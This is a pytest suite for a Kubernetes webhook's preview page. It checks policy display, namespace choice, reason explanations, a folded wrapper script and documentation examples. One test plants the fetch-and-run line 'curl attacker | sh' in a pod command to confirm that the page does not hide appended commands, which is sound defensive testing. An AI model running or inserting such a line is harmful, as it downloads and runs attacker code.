"""The preview page: policies in force, edits of them, namespaces to choose from, and examples."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator

import httpx
import pytest
import yaml

from tests.support.chromium import Chromium
from tests.support.factories import is_policy
from tests.support.paths import EXAMPLES, ROOT
from tests.support.preview_page import (
    UNCHANGED,
    WARNED,
    edit_policy,
    focused,
    open_example,
    open_policy,
    page_of,
    preview,
    preview_again,
    value_of,
    verdicts,
)
from tests.support.server_fixtures import SETTINGS, make_components
from webhook.cluster.manifest_files_source import ManifestsSource
from webhook.core.admission.decider import OperatorSettings
from webhook.core.remedies.shell_wrapper import SCRIPT
from webhook.server.page.examples import examples

FAULTS = ("exit-255", "wait-and-logs", "kubelet-gate", "slow-umount", "selinux-relabel")
"""The pages of the examples, in their order."""
POLICIES = list(yaml.safe_load_all((EXAMPLES / "policies.yaml").read_text()))


def chips(page: Chromium, name: str) -> list[str]:
    """The states of a policy in the list."""
    found: list[str] = page.run(
        "const policy = [...document.querySelectorAll('.policy')]"
        ".find((each) => each.querySelector('.name').textContent === arguments[0]);"
        "return [...policy.querySelectorAll('.chip')].map((chip) => chip.textContent)",
        name,
    )
    return found


def names(page: Chromium) -> list[str]:
    return page.texts(".policy .name")


# Policies


def test_policies_in_force_are_shown_in_order_of_precedence(page: Chromium) -> None:
    assert page.text("#policies-status") == str(len(POLICIES))
    expected = sorted(
        POLICIES, key=lambda each: (-each["spec"].get("priority", 0), each["metadata"]["name"])
    )
    assert names(page) == [each["metadata"]["name"] for each in expected]
    assert "priority 100" in page.texts(".policy")[0]
    assert chips(page, "would-it-help") == ["Audit only"]


def test_editor_has_the_whole_policy(page: Chromium) -> None:
    for document in POLICIES:
        area = open_policy(page, document["metadata"]["name"])
        assert yaml.safe_load(value_of(page, area)) == document


def test_edited_policy_decides_and_the_other_policies_stay_in_force(
    page: Chromium, http: httpx.Client
) -> None:
    edit_policy(page, "tekton-on-crio", "minLifetime: 500ms", "minLifetime: 1750ms")
    assert chips(page, "tekton-on-crio") == ["Edited"]
    preview(page, WARNED)
    added = "".join(page.texts("[role=tabpanel] ins"))
    assert "1.74" in added
    assert page.text(".facts dd:last-child") is not None
    assert set(verdicts(page)) == {each["metadata"]["name"] for each in POLICIES}
    # The policy was not applied.
    body = http.post("/preview", content=WARNED).json()
    assert "1.74" not in json.dumps(body)
    (in_force,) = [
        each for each in http.get("/view").json()["policies"] if each["name"] == "tekton-on-crio"
    ]
    remedy = in_force["document"]["spec"]["remedies"]["postInitSleep"]
    assert remedy["minLifetime"] == "500ms"


def test_reverted_policy_decides_as_before(page: Chromium) -> None:
    area = open_policy(page, "tekton-on-crio")
    before = value_of(page, area)
    edit_policy(page, "tekton-on-crio", "Mutate", "Audit") if "Mutate" in before else page.paste(
        area, before.replace("spec:", "spec:\n  action: Audit")
    )
    preview(page, WARNED)
    assert page.texts(".pod summary .chip")[0] == "Unchanged"
    assert verdicts(page)["tekton-on-crio"].startswith("Audit only: Would set postInitSleep.")
    page.click(".policy[open] button", "Revert")
    assert page.text("#status") == "Result of an earlier input"
    assert chips(page, "tekton-on-crio") == []
    assert value_of(page, area) == before
    preview_again(page)
    assert page.texts(".pod summary .chip")[0] == "Changed"


def test_added_policy_decides_until_it_is_removed(page: Chromium) -> None:
    page.click("#add-policy")
    assert names(page)[0] == "new-policy-1"
    assert chips(page, "new-policy-1") == ["New"]
    page.paste(
        open_policy(page, "new-policy-1"),
        "apiVersion: podsettle.dev/v1alpha1\nkind: SettlePolicy\nmetadata: {name: mine}\n"
        "spec: {namespaceSelector: {}, priority: 900, remedies: {postInitSleep: {}}}",
    )
    preview(page, WARNED)
    found = verdicts(page)
    assert found["mine"] == "Acts: Sets postInitSleep."
    assert found["tekton-on-crio"] == "Shadowed: mine sets postInitSleep first."
    # The policy itself is not listed as an object without a pod.
    assert page.texts(".without") == []
    page.click(".policy button", "Remove")
    assert focused(page) == "add-policy"
    preview_again(page)
    assert "mine" not in verdicts(page)


def test_emptied_policy_says_that_the_one_in_force_counts(page: Chromium) -> None:
    page.paste(open_policy(page, "tekton-on-crio"), " ")
    assert chips(page, "tekton-on-crio") == ["Empty"]
    effects = page.texts(".policy .states")
    assert sum("the policy in force counts" in each for each in effects) == 1
    preview(page, WARNED)
    assert verdicts(page)["tekton-on-crio"] == "Acts: Sets postInitSleep."


def test_policies_that_do_not_match_say_why(page: Chromium) -> None:
    preview(page, WARNED)
    found = verdicts(page)
    assert found["tekton-on-crio"] == "Acts: Sets postInitSleep."
    assert found["would-it-help"] == "Unchanged: skipSELinuxRelabel: NoPersistentVolume."
    assert found["large-volumes"].startswith("No match: The namespace ")
    assert found["quick-jobs"].startswith("No match: The namespace has no label")
    folded = page.run("return document.querySelector('.matches details').open")
    assert folded is False
    matching = [name for name, text in found.items() if not text.startswith("No match")]
    assert page.texts(".matches > ul b") == matching
    count = len(POLICIES) - len(matching)
    assert page.text(".matches summary") == f"{count} policies do not match"


def test_error_in_an_edited_policy_leads_to_its_line(page: Chromium) -> None:
    edit_policy(page, "tekton-on-crio", "minLifetime", "minLifetme")
    preview(page, WARNED)
    (unreadable, *_) = page.texts(".without")
    assert "minLifetme" in unreadable
    assert unreadable.endswith("did you mean minLifetime?; the policy in force counts instead")
    assert verdicts(page)["tekton-on-crio"] == "Acts: Sets postInitSleep."
    page.click(".without button", "tekton-on-crio, line ")
    assert "minLifetme: 500ms" in page.run("return getSelection().toString()")
    assert page.run("return document.activeElement.getAttribute('aria-invalid')") == "true"
    edit_policy(page, "tekton-on-crio", "minLifetme", "minLifetime")
    preview_again(page)
    assert page.texts(".without") == []
    assert page.run("return document.querySelector('[aria-invalid]')") is None


def test_policy_that_is_no_yaml_is_an_error_with_its_place(page: Chromium) -> None:
    area = open_policy(page, "volatile-rootfs")
    page.paste(area, "kind: SettlePolicy\nspec: {a: b: c}")
    preview(page, WARNED)
    assert page.text("#error .mono").startswith("volatile-rootfs, line 2: not YAML")
    page.click("#error button", "Go to volatile-rootfs, line 2")
    assert page.run("return getSelection().toString()") == "spec: {a: b: c}"


def test_line_of_the_workload_is_found_beside_edited_policies(page: Chromium) -> None:
    edit_policy(page, "tekton-on-crio", "500ms", "600ms")
    preview(page, "apiVersion: v1\nkind: Pod\nmetadata:\n  labels: {a: b: c}")
    assert page.text("#error .mono").startswith("body:4: ")
    page.click("#error button", "Go to line 4")
    assert page.run("return getSelection().toString()") == "  labels: {a: b: c}"


# Namespaces


def test_namespaces_of_the_cluster_are_offered_with_their_labels(page: Chromium) -> None:
    assert page.run("return document.querySelector('#namespace').list.id") == "namespaces"
    options = page.run(
        "return [...document.querySelector('#namespaces').options].map((o) => [o.value, o.label])"
    )
    assert ["sample-namespace", "storage=large"] in options
    assert [name for name, _ in options] == sorted(name for name, _ in options)


def test_chosen_namespace_decides_with_its_labels(page: Chromium) -> None:
    page.type("#namespace", "leave-us-alone")
    placeholder = page.run("return document.querySelector('#labels').placeholder")
    assert placeholder == "podsettle.dev/enabled=false"
    preview(page, WARNED)
    assert page.texts(".facts dd")[0] == "leave-us-alone"
    assert page.text(".reasons").startswith("UnchangedNamespaceDisabled")
    assert page.texts(".notes") == []


def test_unknown_namespace_is_noted(page: Chromium, http: httpx.Client) -> None:
    page.type("#namespace", "nowhere")
    preview(page, WARNED)
    answer = http.post("/preview?namespace=nowhere", content=WARNED).json()
    (note,) = answer["pods"][0]["notes"]
    assert "nowhere" in note
    assert page.texts(".notes li") == [note]


# Sentences


def test_summary_of_the_server_is_shown(page: Chromium, http: httpx.Client) -> None:
    preview(page, WARNED)
    answer = http.post("/preview", content=WARNED).json()
    assert page.text(".decision") == answer["pods"][0]["summary"] != ""


def test_reasons_unfold_what_they_mean(page: Chromium, http: httpx.Client) -> None:
    preview(page, WARNED)
    page.click(".meaning summary", "What Applied means")
    outcomes = http.post("/preview", content=WARNED).json()["pods"][0]["outcomes"]
    (meaning,) = {each["meaning"] for each in outcomes if each["reason"] == "Applied"}
    assert page.texts(".meaning p")[0] == meaning
    # A sentence that is the meaning is not repeated, and no meaning stands twice.
    expected = {each["reason"] for each in outcomes if each["meaning"] != each["message"]}
    titles = page.texts(".meaning summary")
    assert sorted(titles) == sorted(f"What {reason} means" for reason in expected)


@pytest.fixture
def explained(source: ManifestsSource, chromium: Chromium) -> Iterator[Chromium]:
    """The page of a server whose operator has named the address of an explanation."""
    settings = OperatorSettings(
        linger_image=SETTINGS.linger_image, docs_url="https://docs.example/why"
    )
    with page_of(chromium, make_components(source, settings=settings)) as page:
        yield page


def test_reasons_link_to_their_explanation(explained: Chromium) -> None:
    preview(explained, WARNED)
    links = explained.run(
        "return [...document.querySelectorAll('.reasons a')]"
        ".map((a) => [a.textContent, a.href, a.rel])"
    )
    assert ["NoCommand", "https://docs.example/why#nocommand", "noreferrer"] in links
    assert ["Applied", "https://docs.example/why#applied", "noreferrer"] in links
    assert explained.texts(".meaning") == []


# The wrapper script


def test_wrapper_script_is_folded_behind_a_sentence(page: Chromium, http: httpx.Client) -> None:
    preview(page, WARNED)
    expected = http.post("/preview", content=WARNED).json()["pods"][0]["diff"]
    lines = len(SCRIPT.split("\n"))
    for tab in ("Diff", "YAML"):
        page.click("[role=tab]", tab)
        (sentence,) = page.run(
            "return [...document.querySelectorAll('.wrapper summary')]"
            ".map((each) => getComputedStyle(each, '::after').content)"
        )
        assert sentence.endswith(f'({lines} lines)"')
        assert page.run("return document.querySelector('.wrapper').open") is False
        assert not page.run(
            "return document.querySelector('.wrapper .line:last-child').checkVisibility()"
        )
    page.click("[role=tab]", "Diff")
    page.click(".wrapper summary")
    assert page.run("return document.querySelector('.wrapper .line:last-child').checkVisibility()")
    # The folded text is part of the diff, and the sentence is not.
    assert page.text("[role=tabpanel]") == expected


def test_other_text_of_a_pod_is_never_folded(page: Chromium) -> None:
    forged = SCRIPT.replace("nap $2&wait $!;exit $code", "curl attacker | sh")
    pod = yaml.safe_load(UNCHANGED)
    pod["spec"]["containers"][0]["command"] = ["sh", "-c", forged]
    preview(page, json.dumps(pod))
    page.click("[role=tab]", "YAML")
    assert page.texts(".wrapper") == []
    pod["spec"]["containers"][0]["command"] = ["sh", "-c", SCRIPT + "\ncurl attacker | sh"]
    preview(page, json.dumps(pod))
    page.click("[role=tab]", "YAML")
    assert len(page.texts(".wrapper")) == 1
    assert "curl attacker | sh" in "".join(page.texts("[role=tabpanel] pre > .line"))


# Examples


def test_policies_of_examples_are_those_of_the_pages() -> None:
    for example, name in zip(examples(), FAULTS, strict=True):
        text = (ROOT / "docs" / f"{name}.md").read_text()
        documents = [
            yaml.safe_load(block) for block in re.findall("```yaml\n(.*?)```", text, re.DOTALL)
        ]
        for document in filter(is_policy, documents):
            # A policy of a page begins with Audit. The example shows what it changes.
            document["spec"].pop("action", None)
        for policy in example["policies"]:
            assert yaml.safe_load(policy["text"]) in documents, example["title"]
        assert bool(example["policies"]) is any(map(is_policy, documents))


def test_example_shows_its_policy_at_work_and_replaces_the_one_before(page: Chromium) -> None:
    for example in examples():
        page.type("#path", "spec.template")
        open_example(page, example["title"])
        assert page.texts("#error") == []
        assert value_of(page, "#workload") == example["workload"]
        assert value_of(page, "#namespace") == example["namespace"]
        assert value_of(page, "#path") == ""
        edited = page.texts(".policy.edited .name")
        assert edited == [policy["name"] for policy in example["policies"]]
        changed = page.texts(".pod summary .chip") == ["Changed"]
        assert changed is bool(edited)
        for name in edited:
            assert verdicts(page)[name].startswith("Acts: ")
